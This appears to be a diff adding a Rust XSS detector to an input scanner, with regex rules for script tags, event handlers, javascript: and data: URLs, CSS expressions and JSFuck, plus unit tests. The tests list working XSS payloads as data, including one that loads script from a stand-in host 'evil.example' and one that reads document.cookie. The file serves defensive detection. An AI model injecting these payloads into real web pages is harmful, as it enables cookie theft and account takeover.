@@ -1,0 +1,185 @@
+//! Cross-site scripting (CWE-79; OWASP WSTG-INPV-01, XSS Filter Evasion Cheat Sheet): markup and script that a browser would run.
+//!
+//! Markup as such is no attack: editors send it. What counts is what runs script: elements, handlers, URLs, styles that load code;
+//! and script that leaves a string or an attribute it was put in.
+
+use super::{
+    BuildError, Detector, Family, Finding, Marks, Rule, RuleSet, Value,
+    rules::{always, short},
+};
+
+/// Script needs markup, a call, a member or a scheme.
+const MARKS: Marks = Marks::ANGLE
+    .and(Marks::ROUND)
+    .and(Marks::EQUALS)
+    .and(Marks::COLON)
+    .and(Marks::SQUARE)
+    .and(Marks::QUOTE);
+
+/// Handlers of HTML and SVG (WHATWG HTML, section 8.1.8.2), as they stand behind a quote or a slash.
+macro_rules! handlers {
+    () => {
+        r"on(?:error|load|click|dblclick|mouse\w+|focus\w*|blur|key\w+|animation\w+|transition\w+|pointer\w+|toggle|begin|end|submit|change|input|select|copy|cut|paste|drag\w*|drop|scroll\w*|wheel|resize|hashchange|message|page\w+|pop\w+|storage|unload|beforeunload|start|finish|bounce|touch\w+|show|search|abort|canplay\w*|play\w*|seek\w*|time\w*|volume\w*|waiting|invalid|reset|contextmenu|auxclick|before\w+|after\w+|activate|deactivate|ready\w*|data\w+|filter\w+|help|lose\w+|move\w*|property\w*|row\w+|fullscreen\w*|webkit\w+|got\w+|lost\w+|formdata|slotchange|security\w+|rejection\w*|unhandled\w+)"
+    };
+}
+
+const RULES: &[Rule] = &[
+    // markup that runs
+    always(
+        "script-element",
+        r#"<[\s/]*script(?:[\s/(:][^>]*)?(?:\bsrc\b|\bhref\b|[^>]*$|>\s*(?:[^\sa-z<]|[\w.]+\s*[^\w\s]|<|$)|/>)|<script>\w+</|</\s*script\b|<py-script|<\w+:script\b"#,
+    ),
+    always("handler", r#"<[a-z!?/][^>]{0,400}[\s/"'`\x0b\x0c]on[a-z]{3,40}\s*="#),
+    always(
+        "handler-broken",
+        r"<\w[^>]{0,60}\bo<\w{1,6}>n\w{3,16}\s*=|\bo<\w{1,4}>n\w{3,16}\s*=",
+    ),
+    short(
+        "active-element",
+        r"<[\s/]*(?:iframe|frame|frameset|object|embed|applet|base\s|meta\s+http|svg|math|xml\s|xml>|xml:|xss|import|isindex|bgsound|layer|ilayer|keygen|portal|noscript|listing|plaintext|xmp|comment|v:\w|vmlframe|set\s|animate\w*|handler|foreignobject|feimage|use\s|marquee|\?import|\?xml:|xsl:|event-source|details\s+open|param\s|image\s|videos?\s+src|audio\s+src)",
+    ),
+    always(
+        "frame",
+        r#"<(?:iframe|frame|embed|object)\b[^>]{0,200}(?:src|data|srcdoc)\s*=\s*["'`]?\s*(?:javascript|data:|vbscript|&|%|\\)|<iframe[^>]{0,100}\bsrcdoc\b"#,
+    ),
+    always(
+        "style",
+        r#"<style[^>]*>[^<]{0,400}(?:@import|expression|javascript|behaviou?r|binding|\*\{)|<\w+[^>]{0,100}\bstyle\s*=[^>]{0,200}(?:expression|javascript|behaviou?r\s*:|binding|url\(\s*['"]?(?:javascript|data):|:x:|\\-)|expression\s*\(\s*(?:alert|\w+\s*=|document|window|eval|write)|-moz-binding\s*:|behaviou?r\s*:\s*url|@import\s*['"(u][^;]{0,60}(?:javascript|//)|url\(\s*['"]?javascript"#,
+    ),
+    short(
+        "link",
+        r#"<[\s/]*link\b[^>]{0,200}(?:href\s*=\s*["']?\s*(?:javascript|data|//|[\w.]+\.js)|rel\s*=\s*["']?(?:import|stylesheet))"#,
+    ),
+    short(
+        "source",
+        r#"<\s*(?:img|image|input|video|audio|source|body|table|td|bgsound)\b[^>]{0,120}(?:\b(?:dyn|low)?src|background|poster)\s*=\s*["'`]?\s*(?:x\b|#|javascript|vbscript|data:text|&|livescript|mocha|`|>|1\b|\.\s)"#,
+    ),
+    // URLs that run
+    always(
+        "scheme",
+        r#"(?:^|["'=(\s/,;`])(?:java|vb|live)\s*script\s*:(?:[^\s"'<>]{3,}|\s*\w*\s*[(.=`\[])|(?:j\s*a\s*v\s*a|v\s*b)\s*s\s*c\s*r\s*i\s*p\s*t\s*:\s*(?:[a-z_$(\[/%'"!~+`&\\-][^\s])?[^\n]{0,200}[(=`\[{]|script:\s*(?:con|alert|eval)|mocha:\["#,
+    ),
+    always(
+        "data-url",
+        r"data:\s*(?:text/html|image/svg\+xml[^,]{0,30},\s*(?:<|%3c|PHN)|application/xhtml|text/xml|text/javascript|[^,\s]{0,30};base64,\s*PHN)|data:\s*,\s*<",
+    ),
+    // script in an attribute or a string that it leaves
+    short(
+        "attribute-break",
+        concat!(
+            r#"(?:["'`>/]|^|["'][^"'<>]{0,60}\s)\s*\b"#,
+            handlers!(),
+            r#"\s*=\s*(?:["'`]?\s*[\w(\[{`$;/&\\]|$)|^[^<]{0,80}["'](?:[\s/]*)(?:autofocus|formaction|srcdoc|style|src|href)\s*="#
+        ),
+    ),
+    always(
+        "handler-code",
+        r#"\bon[a-z]{3,20}\s*=\s*["'`]?\s*(?:alert|confirm|prompt|eval|javascript:|document\.|window\.|fetch\(|location\b|import\(|x\s*=>|write\b)"#,
+    ),
+    always(
+        "dialogue",
+        r#"\b(?:alert|confirm|prompt)\s*(?:\?\.)?(?:<\w{0,4}>|[)\]\s])*(?:\(\s*(?:\d|['"`/]|document|window|this|self|origin|location|\)|xss|String|name|top)|`)|\b(?:alert|confirm|prompt|eval)\.(?:call|apply|bind)\s*\(|=\s*\(?(?:alert|confirm|prompt|eval)\)?\s*[;,)&]|\((?:alert|confirm|prompt|eval)\)|[,:\[]\s*(?:alert|confirm)\s*[\])]|\.(?:map|find|filter|forEach)\(\s*(?:alert|confirm|eval)\b"#,
+    ),
+    short(
+        "call",
+        r#"(?:^|[^\w.])(?:alert|confirm|prompt|eval|settimeout|setinterval|function|atob)\b(?:<\w{0,4}>|[)\]}'"\s/*+.?,]){0,6}(?:\(|`|&lpar;)\s*[^\s]{0,80}(?:[)`]|$)|\bimport\s*\(\s*['"`/]"#,
+    ),
+    short(
+        "dom",
+        r#"\b(?:document|window|top|self|parent|frames|globalThis|location|navigator)\s*\??(?:\.\s*(?:cookie|domain|write(?:ln)?\b|body\b|URL\b|createElement|getElement\w+|querySelector\w*|referrer|location\b|innerHTML|defaultView|documentElement|execCommand|vibrate)|\[\s*['"`/+(\[!~])|\blocation\s*=\s*['"`(]?\s*(?:javascript|name|\w+\s*[;+]|//|http)|\blocation\.(?:hash|href|search|replace)\b\s*[.=(;)]|\b(?:getElementsByTagName|appendChild|fromCharCode|createElement|insertAdjacentHTML|innerHTML\s*=|getScript)\b"#,
+    ),
+    short(
+        "construct",
+        r#"\[\s*['"`](?:constructor|__proto__|alert|eval|\w{1,12}['"`]\s*\+)|\.(?:constructor|sort|map|find|filter|replace|source|call|apply|with)\s*(?:\(|\.call|`)\s*(?:['"`(]|alert|\$\{|eval|confirm|[\d,]+alert)|\.source\s*\+\s*/|(?:Reflect|Array|Function|Set|Map)\.\w+(?:\.\w+)*\s*`|\bFunction\s*[(`]|\]\s*\(\s*(?:\d+|['"`]|document|\))\s*\)?$|^\W*'\w+'(?:\s*\+\s*'\w+')+\W*\(\)|^\(?\s*'\w+\([^']*'\s*\)\s*\(\)"#,
+    ),
+    // letters made of brackets (JSFuck)
+    short(
+        "brackets",
+        r"(?:!?\[\]|!\+\[\]|\(!\[\]|\+\[\])[\s\[\]()!+]{6,}|\(!?\[\]\s*\[?\]?\)\s*\[|\[!?\[\]\]",
+    ),
+];
+
+/// Finds cross-site scripting.
+pub(super) struct Xss {
+    rules: RuleSet,
+}
+
+impl Xss {
+    pub(super) fn new() -> Result<Self, BuildError> {
+        Ok(Self {
+            rules: RuleSet::new(RULES)?,
+        })
+    }
+}
+
+impl Detector for Xss {
+    fn family(&self) -> Family {
+        Family::Xss
+    }
+
+    fn wants(&self, marks: Marks) -> bool {
+        marks.any(MARKS)
+    }
+
+    fn look(&self, value: &Value<'_>) -> Option<Finding> {
+        if value.is_entered() {
+            self.rules.judge(value)
+        } else {
+            None
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::super::tests::{assert_finds, assert_passes};
+
+    #[test]
+    fn scripts_are_found() {
+        assert_finds(
+            "xss",
+            &[
+                "<script>alert(1)</script>",
+                "<ScRiPt src=//evil.example/x.js></sCrIpT>",
+                "<img src=x onerror=alert(1)>",
+                "<svg/onload=alert`1`>",
+                "\" onmouseover=\"alert(1)",
+                "' autofocus onfocus=alert(1) x='",
+                "javascript:alert(document.cookie)",
+                "java\tscript:alert(1)",
+                "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
+                "';alert(String.fromCharCode(88,83,83))//",
+                "\"-confirm(1)-\"",
+                "<iframe src=\"data:text/html,x\">",
+                "<div style=\"width:expression(alert(1))\">",
+                "<a href=\"javascript:void(0)\">x</a>",
+                "top['al'+'ert'](1)",
+                "[][(![]+[])[+[]]+([![]]+[][[]])[+!+[]+[+[]]]]",
+                "\\u003cscript\\u003ealert(1)",
+                "<details open ontoggle=alert(1)>",
+                "<object data=\"javascript:alert(1)\">",
+            ],
+        );
+    }
+
+    #[test]
+    fn look_alikes_pass() {
+        assert_passes(&[
+            "JavaScript: The Good Parts",
+            "javascript: URLs are deprecated",
+            "<script> tags are stripped by our editor",
+            "How do I use onclick= in React?",
+            "<p>Hello <b>world</b>, see <a href=\"https://example.com/\">this</a></p>",
+            "<img src=\"/uploads/pic.jpg\" alt=\"A picture\" width=\"300\">",
+            "BLAH <A HREF=\"/PATH1/PATH2\">FOO</A>",
+            "a < b and c > d",
+            "<3 this",
+            "fn main() { println!(\"{}\", x); }",
+            "Alert: the server is down",
+            "please confirm (or decline) the invitation",
+            "<h2>Heading</h2><ul><li>One</li><li>Two & three</li></ul>",
+            "if (x[i] == y[j]) { return; }",
+            "the window. open it",
+        ]);
+    }
+}
